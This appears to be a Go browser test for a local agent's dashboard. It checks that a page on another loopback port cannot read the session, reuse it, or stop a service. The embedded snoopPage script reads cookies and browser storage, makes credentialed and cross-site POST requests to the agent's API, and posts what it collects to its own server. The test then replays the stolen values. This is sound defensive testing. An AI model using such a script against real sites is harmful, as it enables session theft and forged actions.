package browser_test

import (
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/url"
	"regexp"
	"slices"
	"strings"
	"sync"
	"testing"

	"github.com/chromedp/chromedp"
)

// snoop is a server on another loopback port, as any local program could
// run: it records everything the browser sends it (headers, cookies, query,
// body), and its page reports what script on that origin can read.
type snoop struct {
	srv  *http.Server
	ln   net.Listener
	mu   sync.Mutex
	reqs []snooped
}

type snooped struct {
	Method, URI string
	Header      http.Header
	Body        string
}

// snoopPage tries what a hostile page on another port can try: read the
// storage and cookies its origin sees, reach the agent's API with the
// browser's credentials, and frame the dashboard; it posts what it read
// back to its own server.
const snoopPage = `<!doctype html><html><body>
<iframe src="http://%[1]s/"></iframe>
<img src="http://%[1]s/api/v1/services">
<script>
(async () => {
  const seen = {cookie: document.cookie, session: JSON.stringify(sessionStorage), local: JSON.stringify(localStorage)};
  for (const u of ['http://%[1]s/api/v1/services', 'http://%[1]s/api/v1/health']) {
    try { const r = await fetch(u, {credentials: 'include'}); seen[u] = r.status + ' ' + await r.text(); } catch (e) { seen[u] = 'blocked: ' + e; }
  }
  try {
    const r = await fetch('http://%[1]s/api/v1/services/vpn/stop', {method: 'POST', credentials: 'include', mode: 'no-cors'});
    seen.post = 'sent ' + r.type;
  } catch (e) { seen.post = 'blocked: ' + e; }
  await fetch('/collect', {method: 'POST', body: JSON.stringify(seen)});
  document.title = 'snooped';
})();
</script></body></html>`

func startSnoop(t *testing.T, agentAddr string) *snoop {
	t.Helper()
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	s := &snoop{ln: ln}
	s.srv = &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		body, _ := io.ReadAll(io.LimitReader(r.Body, 1<<20))
		s.mu.Lock()
		s.reqs = append(s.reqs, snooped{r.Method, r.RequestURI, r.Header.Clone(), string(body)})
		s.mu.Unlock()
		if r.URL.Path == "/" {
			w.Header().Set("Content-Type", "text/html; charset=utf-8")
			fmt.Fprintf(w, snoopPage, agentAddr)
		}
	})}
	go func() { _ = s.srv.Serve(ln) }()
	t.Cleanup(func() { _ = s.srv.Close() })
	return s
}

func (s *snoop) received() []snooped {
	s.mu.Lock()
	defer s.mu.Unlock()
	return slices.Clone(s.reqs)
}

// candidates returns every value the snoop server received that could be
// a credential: each header value, each cookie, each query value, each
// string in a posted body, and every hex run of 16+ digits inside them.
func candidates(reqs []snooped) []string {
	set := map[string]bool{}
	add := func(v string) {
		if v = strings.TrimSpace(v); v != "" {
			set[v] = true
		}
	}
	hexRun := regexp.MustCompile(`[0-9a-fA-F]{16,}`)
	var raw []string
	for _, r := range reqs {
		raw = append(raw, r.URI, r.Body)
		if u, err := url.ParseRequestURI(r.URI); err == nil {
			for _, vs := range u.Query() {
				raw = append(raw, vs...)
			}
		}
		for _, vs := range r.Header {
			raw = append(raw, vs...)
		}
		hr := http.Request{Header: r.Header}
		for _, c := range hr.Cookies() {
			raw = append(raw, c.Value)
		}
		var m map[string]string
		if json.Unmarshal([]byte(r.Body), &m) == nil {
			for _, v := range m {
				raw = append(raw, v)
			}
		}
	}
	for _, v := range raw {
		add(v)
		for _, h := range hexRun.FindAllString(v, -1) {
			add(h)
		}
	}
	out := make([]string, 0, len(set))
	for v := range set {
		out = append(out, v)
	}
	slices.Sort(out)
	return out
}

// replay tries one credential candidate every way the API could take it,
// on a read and on a mutation, and returns the attempts that were let in.
func replay(t *testing.T, agentAddr, v string, received http.Header) []string {
	t.Helper()
	base := "http://" + agentAddr
	type try struct {
		method, path string
		header       http.Header
	}
	var tries []try
	for _, m := range []struct{ method, path string }{{"GET", "/api/v1/services"}, {"POST", "/api/v1/services/vpn/stop"}, {"POST", "/api/v1/login-codes"}} {
		for _, h := range []http.Header{
			{"Authorization": {"Bearer " + v}},
			{"X-Api-Key": {v}},
			{"X-Rouse-Session": {v}},
			{"Cookie": {"rouse_session=" + v}},
			{"Cookie": {v}},
		} {
			tries = append(tries, try{m.method, m.path, h})
		}
		// Everything the snoop server received, as it was sent.
		if received != nil {
			tries = append(tries, try{m.method, m.path, received.Clone()})
		}
	}
	tries = append(tries, try{"GET", "/api/v1/events?ticket=" + url.QueryEscape(v), http.Header{}})
	tries = append(tries, try{"GET", "/api/v1/services?ticket=" + url.QueryEscape(v), http.Header{}})
	var in []string
	hc := &http.Client{CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }}
	defer hc.CloseIdleConnections()
	for _, tr := range tries {
		ctx, cancel := context.WithTimeout(context.Background(), guard)
		req, err := http.NewRequestWithContext(ctx, tr.method, base+tr.path, nil)
		if err != nil {
			cancel()
			t.Fatal(err)
		}
		for k, vs := range tr.header {
			if strings.EqualFold(k, "Host") || strings.EqualFold(k, "Content-Length") {
				continue
			}
			req.Header[k] = vs
		}
		// The agent's own origin: the Origin check must not be what stops it.
		req.Header.Set("Origin", base)
		req.Header.Del("Referer")
		req.Header.Del("Sec-Fetch-Site")
		resp, err := hc.Do(req)
		if err == nil {
			if resp.StatusCode < 400 {
				in = append(in, fmt.Sprintf("%s %s with %v: %d", tr.method, tr.path, tr.header, resp.StatusCode))
			}
			resp.Body.Close()
		}
		cancel()
	}
	return in
}

// getWith GETs /api/v1/services with one header and returns the status.
func getWith(t *testing.T, agentAddr, key, value string) int {
	t.Helper()
	req, err := http.NewRequest("GET", "http://"+agentAddr+"/api/v1/services", nil)
	if err != nil {
		t.Fatal(err)
	}
	req.Header.Set(key, value)
	tr := &http.Transport{}
	defer tr.CloseIdleConnections()
	resp, err := (&http.Client{Transport: tr}).Do(req)
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	return resp.StatusCode
}

func TestASessionIsUselessToOtherLocalPorts(t *testing.T) {
	bin := chromiumPath(t)
	c := runAgent(t)
	agentAddr := strings.TrimPrefix(c.BaseURL(), "http://")
	waitFor(t, "every component ready", func() (bool, string) { return allReady(c) })

	actx, cancelAlloc := chromedp.NewExecAllocator(context.Background(), browserOptions(t, bin)...)
	defer cancelAlloc()
	bctx, cancelBrowser := chromedp.NewContext(actx, chromedp.WithLogf(t.Logf))
	defer cancelBrowser()
	ctx, cancel := context.WithTimeout(bctx, 3*guard)
	defer cancel()
	evalJS := func(js string, v any) error {
		raw, err := chromedp.Run(ctx, chromedp.Evaluate[[]byte](js))
		if err != nil {
			return err
		}
		return json.Unmarshal(raw, v)
	}

	// The link `rouse open` opens (it asks the agent exactly this).
	login, err := c.LoginCode(context.Background())
	if err != nil {
		t.Fatal(err)
	}
	// A link prefetcher and a HEAD first: neither may use the code up.
	for _, m := range []string{"HEAD", "GET"} {
		req, _ := http.NewRequest(m, login.URL, nil)
		resp, err := http.DefaultClient.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		resp.Body.Close()
		if resp.StatusCode != 200 {
			t.Fatalf("%s of the login link: %d", m, resp.StatusCode)
		}
	}
	http.DefaultClient.CloseIdleConnections()

	if err := chromedp.Do(ctx,
		chromedp.Navigate(login.URL),
		chromedp.Click(chromedp.CSS(`#login`)),
		chromedp.WaitVisible(chromedp.CSS(`#components tbody tr[data-name="vpn"]`)),
	); err != nil {
		t.Fatal(err)
	}
	var sess string
	if err := evalJS(`sessionStorage.getItem('rouse.session') || ''`, &sess); err != nil {
		t.Fatal(err)
	}
	if len(sess) < 32 {
		t.Fatalf("the dashboard tab holds no session (%q)", sess)
	}
	// A control: the tab's own secret, sent as the page sends it, is let in,
	// so the refusals below are the server's doing, not the replay's.
	if code := getWith(t, agentAddr, "X-Rouse-Session", sess); code != 200 {
		t.Fatalf("the tab's own session, replayed, got %d: the replay cannot tell", code)
	}

	// The same browser loads a page of another local port.
	spy := startSnoop(t, agentAddr)
	spyURL := "http://" + spy.ln.Addr().String() + "/"
	if err := chromedp.Do(ctx, chromedp.Navigate(spyURL)); err != nil {
		t.Fatal(err)
	}
	waitFor(t, "the page on the other port to report", func() (bool, string) {
		for _, r := range spy.received() {
			if strings.HasPrefix(r.URI, "/collect") {
				return true, ""
			}
		}
		return false, fmt.Sprint(len(spy.received()), " requests")
	})
	got := spy.received()
	for _, r := range got {
		t.Logf("the other port received: %s %s %v %s", r.Method, r.URI, r.Header, r.Body)
		if strings.Contains(r.URI+r.Body+fmt.Sprint(r.Header), sess) {
			t.Errorf("the other port received the session secret")
		}
	}
	for _, v := range candidates(got) {
		for _, r := range got {
			if in := replay(t, agentAddr, v, r.Header); len(in) > 0 {
				t.Errorf("a value the other port received authorised the API: %q: %v", v, in)
			}
		}
	}
	svc, err := c.Service(context.Background(), "vpn")
	if err != nil {
		t.Fatal(err)
	}
	if svc.Desired == "stopped" {
		t.Error("the other port's page stopped a component")
	}

	t.Run("Logging out ends the session", func(t *testing.T) {
		if err := chromedp.Do(ctx,
			chromedp.Navigate("http://"+agentAddr+"/"),
			chromedp.WaitVisible(chromedp.CSS(`#components tbody tr[data-name="vpn"]`)),
			chromedp.Click(chromedp.CSS(`#logout`)),
		); err != nil {
			t.Fatal(err)
		}
		waitFor(t, "the session to end", func() (bool, string) {
			code := getWith(t, agentAddr, "X-Rouse-Session", sess)
			return code == 401, fmt.Sprint(code)
		})
		waitFor(t, "the tab to drop its session", func() (bool, string) {
			var left string
			err := evalJS(`sessionStorage.getItem('rouse.session') || ''`, &left)
			return err == nil && left == "", fmt.Sprint(left, err)
		})
	})
}
